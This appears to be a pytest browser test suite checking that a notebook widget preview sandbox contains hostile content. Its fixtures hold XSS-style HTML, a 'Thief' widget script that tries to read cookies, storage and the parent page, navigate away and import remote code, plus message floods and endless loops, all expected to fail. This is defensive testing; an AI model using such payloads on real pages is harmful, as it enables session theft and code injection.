"""Whatever a widget holds, the page around its preview stays as it is."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest

from ..server import Server
from .board import Board
from .conftest import Boards
from .kernels import Notebook
from .preview import Preview

pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]

Notebooks = Callable[..., Notebook]

FORBIDDEN = ("Content Security Policy", "sandboxed", "Failed to", "anywidget")
"""What the browser complains of when the walls hold."""

HTML = """
import ipywidgets as w
html = w.HTML('''<p>as it is</p><script>parent.postMessage(1, "*")</script>
<img src="https://example.com/x.png" onerror="document.title = 'ran'">
<iframe srcdoc="<script>top.document.title = 'ran'</script>"></iframe>
<a href="https://example.com/">leave</a>''')
"""

THIEF = '''
import anywidget
class Thief(anywidget.AnyWidget):
    _esm = """
    export default { async render({ el }) {
      const tries = {
        cookie: () => document.cookie,
        storage: () => localStorage.length,
        page: () => parent.document.title,
        leave: () => { top.location = "https://example.com/"; },
        popup: () => { if (!open("/")) throw new Error("none"); },
        request: () => fetch("/api/comms"),
        image: () => new Promise((yes, no) => {
          const image = new Image();
          image.onload = yes;
          image.onerror = no;
          image.src = location.origin + "/logo";
        }),
        code: () => import("https://example.com/code.js"),
      };
      const got = [];
      for (const [name, attempt] of Object.entries(tries)) {
        try { await attempt(); got.push(name); } catch { /* as it should be */ }
      }
      el.append(JSON.stringify({ origin, got }));
    } }
    """
thief = Thief()
'''

WIDGET = '''
import anywidget
class Widget(anywidget.AnyWidget):
    _esm = """export default {{ render({{ model, el }}) {{ el.append("here"); {does} }} }}"""
widget = Widget()
'''

BIDI = "".join(map(chr, (0x202E, 0x200B, 0x2066)))


def whole(board: Board) -> None:
    """The page is the page it was."""
    assert board.page.title() == "Comm · Comm broker"
    assert "/comm-broker?" in board.page.url
    assert board.violations == []


def test_a_script_in_an_html_widget_does_not_run_and_reaches_nobody(
    hub: Server, notebooks: Notebooks, boards: Boards
) -> None:
    notebook = notebooks("html.ipynb")
    notebook.run(HTML)
    board = boards(hub)
    preview = Preview.of(board, notebook, "html")
    preview.wait_for("as it is")
    board.wait_until(lambda: preview.words, 10, "the page says what was kept from change")
    board.page.wait_for_timeout(1000)
    assert preview.frame.evaluate("document.title") == "Preview of a widget"
    assert preview.frame.evaluate("origin") == "null"
    whole(board)
    board.picture("preview-html")
    preview.frame.locator("text=leave").click()
    preview.wait_for_words("has left the preview's page")
    assert board.page.locator("iframe").count() == 0
    board.page.evaluate("window.__violations = []")
    board.forgive(*FORBIDDEN)


def test_code_that_runs_there_has_no_cookies_no_storage_no_network_and_no_page(
    hub: Server, notebooks: Notebooks, boards: Boards
) -> None:
    notebook = notebooks("thief.ipynb")
    notebook.run(THIEF)
    board = boards(hub)
    assert board.page.context.cookies() == [], "the case begins without a login"
    preview = Preview.of(board, notebook, "thief")
    assert board.page.context.cookies(), "the page itself has cookies"
    preview.wait_for('"got"')
    assert json.loads(preview.shown) == {"origin": "null", "got": []}
    preview.wait_for_words("A preview has no network")
    whole(board)
    board.forgive(*FORBIDDEN)


@pytest.mark.parametrize(
    ("does", "words"),
    [
        ("location.href = '/';", "has left the preview's page"),
        ("for (let i = 0; i < 2000; i += 1) model.send(i);", "messages a second"),
        ("model.send('x'.repeat(9e6));", "a message of more than 8 MB"),
        ("parent.postMessage('comm-broker-preview', '*');", "has left the preview's page"),
    ],
    ids=["leaves", "floods", "too much", "greets twice"],
)
def test_code_that_misbehaves_ends_its_preview(
    hub: Server, notebooks: Notebooks, boards: Boards, does: str, words: str
) -> None:
    notebook = notebooks("misbehaves.ipynb")
    notebook.run(WIDGET.format(does=f"setTimeout(() => {{ {does} }}, 300);"))
    board = boards(hub)
    preview = Preview.of(board, notebook, "widget")
    preview.wait_for_words(words)
    assert board.page.locator("iframe").count() == 0
    whole(board)
    board.forgive(*FORBIDDEN)


def test_code_that_never_ends_holds_up_its_frame_and_not_the_page(
    hub: Server, notebooks: Notebooks, boards: Boards
) -> None:
    notebook = notebooks("endless.ipynb")
    notebook.run(WIDGET.format(does="setTimeout(() => { while (true) {} }, 500);"))
    board = boards(hub)
    preview = Preview.of(board, notebook, "widget")
    preview.wait_for("here")
    board.page.wait_for_timeout(2000)
    close = board.page.get_by_role("button", name="Close preview")
    close.click(timeout=10_000)
    board.wait_until(lambda: not board.page.locator("iframe").count(), 10, "it is closed")
    whole(board)


@pytest.mark.parametrize(
    ("code", "shown", "words"),
    [
        ("widget = w.Textarea('x' * 10_000_000)", "", "This widget has more than 4 MB"),
        ("widget = w.VBox([w.Label('once')]); widget.children = (widget, *widget.children)",
         "This widget contains itself. It is drawn once.", ""),
        ("a = w.VBox(); b = w.HBox([a]); a.children = (b,); widget = a",
         "This widget contains itself. It is drawn once.", ""),
        ("widget = w.Label('end')\nfor _ in range(40): widget = w.HBox([widget, widget])",
         "", "contains more than 1000 others"),
        ("widget = w.VBox([w.Image(value=bytes(range(256)) * 9, format='svg+xml'), w.Label('by')])",
         "by", ""),
        (f"widget = w.Label('abc{BIDI}<b>def</b>')", "<b>def</b>", ""),
        ("widget = w.Label('gone'); box = w.HBox([widget]); widget.close(); widget = box",
         "The widget that was here is closed.", ""),
        ("widget = w.Layout()", "", "It has no view of its own"),
    ],
    ids=["10 MB", "itself", "each other", "crowd", "junk", "bidi", "gone", "layout"],
)  # fmt: skip
def test_bad_input_is_drawn_inert_or_refused_in_words(
    hub: Server, notebooks: Notebooks, boards: Boards, code: str, shown: str, words: str
) -> None:
    notebook = notebooks("bad.ipynb")
    notebook.run(f"import ipywidgets as w\n{code}")
    board = boards(hub)
    preview = Preview.of(board, notebook, "widget")
    if shown:
        preview.wait_for(shown)
    preview.wait_for_words(words)
    whole(board)
    # A widget that is gone is asked for once.
    board.forgive("CommClosedError")
